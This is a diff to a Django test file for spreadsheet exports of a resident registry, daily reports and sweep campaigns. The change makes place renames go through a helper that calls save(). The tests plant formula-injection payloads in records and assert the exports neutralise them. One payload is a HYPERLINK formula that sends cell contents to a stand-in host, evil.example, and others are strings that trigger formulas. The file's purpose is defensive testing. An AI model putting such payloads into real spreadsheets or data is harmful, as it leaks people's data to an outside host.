@@ -30,6 +30,13 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
 RISKY = [HYPERLINK, "+1", "-1+2", "@SUM(A1:A2)", "\t=1"]
 
 
+def _rename(place: Place, name: str) -> None:
+    """Places are renamed one at a time (their subtree's sort keys follow)."""
+    place.refresh_from_db()
+    place.name = name
+    place.save()
+
+
 def _client(tc: TinyCity, role: str) -> Client:
     client = Client()
     client.cookies["django_language"] = "en"
@@ -85,7 +92,7 @@ def test_registry_export_masked_and_full(tiny_city: TinyCity) -> None:
     residents = tiny_city.inside.residents
     Resident.objects.filter(pk=residents[0].pk).update(care_note=HYPERLINK, status_note="+1")
     Resident.objects.filter(pk=residents[1].pk).update(care_note="-1+2", status_note="@SUM(A1)")
-    Place.objects.filter(pk=tiny_city.inside.building.pk).update(name="\t=1")
+    _rename(tiny_city.inside.building, "\t=1")
     masked = _client(tiny_city, "grid_worker").post("/registry/export/")
     assert masked.status_code == 200
     assert_inert(_body(masked), [HYPERLINK, "+1", "-1+2", "@SUM(A1)", "\t=1"])
@@ -103,8 +110,8 @@ def test_daily_report_and_rollup_exports(tiny_city: TinyCity) -> None:
     report.note = HYPERLINK
     report.save(update_fields=["note"])
     assert_inert(daily_report_export(report).file.read(), [HYPERLINK])
-    Place.objects.filter(pk=community.pk).update(name="@SUM(A1)")
-    Place.objects.filter(pk=tiny_city.inside.street.pk).update(name="-1+2")
+    _rename(community, "@SUM(A1)")
+    _rename(tiny_city.inside.street, "-1+2")
     street = _client(tiny_city, "street_admin")
     response = street.get(f"/daily/places/{tiny_city.inside.street.pk}/export.xlsx")
     assert response.status_code == 200
@@ -118,7 +125,7 @@ def test_daily_report_and_rollup_exports(tiny_city: TinyCity) -> None:
 def test_sweep_export(tiny_city: TinyCity) -> None:
     sweep = SweepCampaign.objects.get(name="甲区拉网排查")
     SweepCampaign.objects.filter(pk=sweep.pk).update(name=HYPERLINK)
-    Place.objects.filter(pk=tiny_city.inside.street.pk).update(name="+1")
+    _rename(tiny_city.inside.street, "+1")
     response = _client(tiny_city, "district_admin").get(f"/sweeps/{sweep.pk}/export.xlsx")
     assert response.status_code == 200
     assert_inert(_body(response), [HYPERLINK, "+1"])
@@ -126,7 +133,7 @@ def test_sweep_export(tiny_city: TinyCity) -> None:
 
 def test_import_template(tiny_city: TinyCity) -> None:
     """The template lists the community's building names (its example row and dropdown)."""
-    Place.objects.filter(pk=tiny_city.inside.building.pk).update(name=HYPERLINK)
+    _rename(tiny_city.inside.building, HYPERLINK)
     response = _client(tiny_city, "community_admin").get(
         f"/registry/imports/template/?community={tiny_city.inside.community.pk}"
     )
